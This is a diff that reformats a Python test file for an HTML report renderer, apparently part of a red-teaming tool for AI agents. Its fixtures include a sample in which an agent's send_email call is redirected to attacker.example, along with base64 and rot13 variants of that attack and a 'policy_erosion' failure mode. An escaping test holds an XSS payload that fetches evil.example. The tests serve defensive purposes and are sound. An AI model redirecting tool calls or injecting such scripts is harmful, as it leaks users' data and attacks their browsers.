@@ -31,11 +31,27 @@ def _parse(html: str) -> _Collector:
 
 def _items(item):
     return [
-        item("inc-a", "failed", diff="- send_email(to=boss@corp)\n+ send_email(to=x@attacker.example)",
-             results=[{"kind": "no_tool_call", "passed": False, "message": "send_email matched", "step": 3, "details": {}}]),
+        item(
+            "inc-a",
+            "failed",
+            diff="- send_email(to=boss@corp)\n+ send_email(to=x@attacker.example)",
+            results=[
+                {
+                    "kind": "no_tool_call",
+                    "passed": False,
+                    "message": "send_email matched",
+                    "step": 3,
+                    "details": {},
+                }
+            ],
+        ),
         item("inc-b", severity="SEV-3", failure_mode="policy_erosion"),
-        item("inc-a.b64", "failed", parent_id="inc-a", variant={"converters": ["base64"], "seed": 0}),
-        item("inc-a.rot", parent_id="inc-a", variant={"converters": ["rot13", "base64"], "seed": 0}),
+        item(
+            "inc-a.b64", "failed", parent_id="inc-a", variant={"converters": ["base64"], "seed": 0}
+        ),
+        item(
+            "inc-a.rot", parent_id="inc-a", variant={"converters": ["rot13", "base64"], "seed": 0}
+        ),
     ]
 
 
@@ -44,7 +60,12 @@ def test_no_external_resource_no_script(item, make_report) -> None:
     html = render_html(make_report(_items(item)))
     parsed = _parse(html)
     names = {t for t, _ in parsed.tags}
-    assert "script" not in names and "link" not in names and "img" not in names and "iframe" not in names
+    assert (
+        "script" not in names
+        and "link" not in names
+        and "img" not in names
+        and "iframe" not in names
+    )
     for _, attrs in parsed.tags:
         for key in ("src", "href"):
             assert not (attrs.get(key) or "").startswith(("http:", "https:", "//"))
@@ -67,9 +88,19 @@ def test_shows_verdict_charts_bypass_and_diff(item, make_report) -> None:
 
 def test_scenario_text_is_escaped(item, make_report) -> None:
     evil = '<script>fetch("https://evil.example")</script><img src=x onerror=alert(1)>'
-    html = render_html(make_report([item(
-        "inc-x", "failed", message=evil, diff=evil, failure_mode="<b>mode</b>",
-    )]))
+    html = render_html(
+        make_report(
+            [
+                item(
+                    "inc-x",
+                    "failed",
+                    message=evil,
+                    diff=evil,
+                    failure_mode="<b>mode</b>",
+                )
+            ]
+        )
+    )
     assert "<script>" not in html and "<img" not in html and "<b>mode" not in html
     assert "&lt;script&gt;" in html
 
